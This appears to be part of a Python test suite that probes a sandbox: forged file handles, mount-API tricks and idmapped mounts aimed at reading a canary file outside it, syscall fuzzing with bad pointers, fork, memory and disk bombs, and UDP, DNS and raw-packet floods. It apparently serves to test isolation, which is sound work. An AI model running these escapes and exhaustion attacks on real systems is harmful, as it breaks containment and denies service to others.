@attempt
def a_tree_of_the_root_put_elsewhere():
    """open_tree and move_mount of our mounts' roots, then up from there."""
    tree = call(428, -100, b"/", 1 | 0x8000)
    os.makedirs("/tmp/tree", exist_ok=True)
    if tree >= 0 and call(429, tree, b"", -100, b"/tmp/tree", 4) == 0:
        return is_outside(read("/tmp/tree/../../../.." + FACTS["canary_path"]))
    return None


@attempt
def reconfigure_what_is_mounted():
    """fspick and fsconfig of the FUSE root: other owners, other users allowed."""
    context = call(433, -100, b"/", 0)
    for key, value in ((b"user_id", b"1"), (b"rootmode", b"120000"), (b"fd", b"0"), (b"source", b"/dev/sda")):
        if context >= 0 and call(431, context, 1, key, value, 0) == 0 and call(431, context, 7, None, None, 0) == 0:
            return key.decode()
    return None


@attempt
def a_mount_attribute_that_maps_ids():
    """MOUNT_ATTR_IDMAP of a copy of the root, with a namespace of our own."""
    child = os.fork()
    if child == 0:
        call(272, 0x10000000)
        time.sleep(2)
        os._exit(0)
    time.sleep(0.2)
    space = opened(f"/proc/{child}/ns/user")
    tree = call(428, -100, b"/etc", 1)
    return "mapped" if call(442, tree, b"", 0x1000, struct.pack("QQQQ", 0x100000, 0, 0, space), 32) == 0 else None


@attempt
def handles_of_what_we_do_not_see():
    """name_to_handle_at, its handle bent, opened again."""
    room = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    number = ctypes.c_int()
    call(303, -100, b"/etc/passwd", room, ctypes.byref(number), 0)
    for kind in (1, 2, 0x4D, 0x81, 0x82, 254):
        for inode in range(1, 40):
            struct.pack_into("IiQQI", room, 0, 20, kind, inode, 256, 0)
            if call(304, os.open("/", os.O_RDONLY), room, 0) >= 0:
                return f"type {kind}, inode {inode}"
    return None


@attempt
def a_handle_written_where_nothing_is():
    for pointer in (0, 1, 4095, (1 << 47) - 4, 1 << 63, (1 << 64) - 1):
        call(303, -100, b"/etc/passwd", ctypes.c_void_p(pointer), ctypes.c_void_p(pointer), 0)
        call(203, 0, 8, ctypes.c_void_p(pointer))
        call(314, 0, ctypes.c_void_p(pointer), 0)
        call(144, 0, 1, ctypes.c_void_p(pointer))


@attempt
def a_mask_of_a_gigabyte():
    """sched_setaffinity(2) with a size that nobody reads whole."""
    for size in (1 << 20, 1 << 30, (1 << 32) - 1, (1 << 63) - 1):
        call(203, 0, ctypes.c_void_p(size), ctypes.create_string_buffer(64))


@attempt
def landlock_left_by_a_child():
    """A rule set of one's own narrows, and never widens."""
    ruleset = call(444, struct.pack("Q", 1 << 2), 8, 0)
    if ruleset >= 0:
        call(157, 38, 1, 0, 0, 0)
        call(446, ruleset, 0)
    return is_outside(read(FACTS["canary_path"]))


def _children_limit(count):
    made = []
    try:
        for _ in range(count):
            child = os.fork()
            if child == 0:
                time.sleep(5)
                os._exit(0)
            made.append(child)
    except OSError:
        return None
    finally:
        for child in made:
            os.kill(child, 9)
    return f"{count} processes"


@attempt
def fork_bomb():
    return _children_limit(4000)


@attempt
def memory_bomb():
    child = os.fork()
    if child == 0:
        kept = []
        while True:
            kept.append(b"x" * (64 << 20))
            if len(kept) > 64:
                os._exit(7)
    _, status = os.waitpid(child, 0)
    return "4 GiB" if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7 else None


@attempt
def shared_memory_bomb():
    child = os.fork()
    if child == 0:
        for index in range(80):
            descriptor = call(319, b"bomb%d" % index, 0)
            if descriptor < 0 or os.write(descriptor, b"x" * (64 << 20)) < 1:
                os._exit(0)
        os._exit(7)
    _, status = os.waitpid(child, 0)
    return "5 GiB" if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7 else None


@attempt
def fill_the_disk():
    written = 0
    try:
        with open("/var/tmp/fill", "wb", buffering=0) as file:
            while written < 2 << 30:
                written += file.write(b"\xa5" * (1 << 20))
    except OSError as error:
        return None if error.errno in (errno.ENOSPC, errno.EDQUOT, errno.EFBIG) else str(error)
    finally:
        os.unlink("/var/tmp/fill")
    return "2 GiB"


@attempt
def exhaust_descriptors():
    kept = []
    try:
        for _ in range(1 << 21):
            kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        return None
    return "two million"


@attempt
def exhaust_sockets_and_pipes():
    try:
        kept = [os.pipe() for _ in range(1 << 20)]
    except OSError:
        return None
    return f"{len(kept)} pipes"


@attempt
def storm_of_asked_calls():
    """uname, kill and sched_getaffinity are answered by a process: thousands of them at once."""

    def storm():
        end = time.monotonic() + 2
        while time.monotonic() < end:
            os.uname()
            os.sched_getaffinity(0)

    threads = [threading.Thread(target=storm) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@attempt
def die_in_an_asked_call():
    for _ in range(100):
        child = os.fork()
        if child == 0:
            while True:
                os.uname()
        os.kill(child, 9)
        os.waitpid(child, 0)


@attempt
def bad_pointers_in_asked_calls():
    for number in (59, 62, 63, 99, 204, 322):
        child = os.fork()
        if child == 0:
            for pointer in (0, 1, 0xFFFFFFFFFFFFFFFF, 0x7FFFFFFFF000, 0xFFFF800000000000):
                call(number, pointer, pointer, pointer)
            os._exit(0)
        os.waitpid(child, 0)


@attempt
def fuzz_the_call_table():
    """Every number, with arguments that are small, large and wild; in children, as some of them end the process."""
    import random

    chance, skipped = (
        random.Random(7),
        {
            1,
            15,
            34,
            35,
            57,
            58,
            56,
            60,
            61,
            62,
            130,
            162,
            200,
            219,
            230,
            231,
            234,
            435,
            7,
            23,
            128,
            232,
            270,
            271,
            281,
            441,
            449,
            202,
        },
    )
    for number in range(470):
        if number in skipped:
            continue
        child = os.fork()
        if child == 0:
            signal.alarm(1)
            for _ in range(6):
                call(number, *(chance.choice((0, 1, -1, 7, 4096, 1 << 31, 1 << 47, chance.getrandbits(64) >> 1)) for _ in range(6)))
            os._exit(0)
        os.waitpid(child, 0)
    return is_outside(read(FACTS["canary_path"]))


@attempt
def many_packets():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flood:
        end = time.monotonic() + 2
        while time.monotonic() < end:
            try:
                flood.sendto(b"x" * 1400, ("198.51.100.7", 9))
            except OSError:
                select.select([], [], [], 0.01)


@attempt
def many_names():
    for index in range(300):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            name = b"%dx" % index
            question = struct.pack(">HHHHHH", index, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\7example\3com\0\0\1\0\1"
            asker.sendto(question, (FACTS.get("resolver", "192.0.2.53"), 53))


@attempt
def many_lines_to_a_service():
    lines = []
    for port in (22, 80, 3306) * 100:
        with contextlib.suppress(OSError):
            lines.append(socket.create_connection(("127.0.0.1", port), 0.5))
    for line in lines:
        with contextlib.suppress(OSError):
            line.sendall(b"x" * 100000)


@attempt
def frames_of_all_kinds():
    """Into the line that the stage reads: noise, and TCP segments with everything in them bent."""
    dice = random.Random(7)
    device = next(name for _, name in socket.if_nameindex() if name != "lo")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as line:
        line.bind((device, 0))
        own = line.getsockname()[4]
        for _ in range(3000):
            frame = bytearray(
                b"\xff" * 6 + own + b"\x08\x00" + struct.pack(">BBHHHBBH", 0x45, 0, 60, 0, 0, 64, 6, 0) + dice.randbytes(48)
            )
            for _ in range(dice.randrange(4)):
                frame[dice.randrange(len(frame))] = dice.randrange(256)
            with contextlib.suppress(OSError):
                line.send(bytes(frame[: dice.randrange(1, len(frame))]) if dice.random() < 0.3 else bytes(frame))
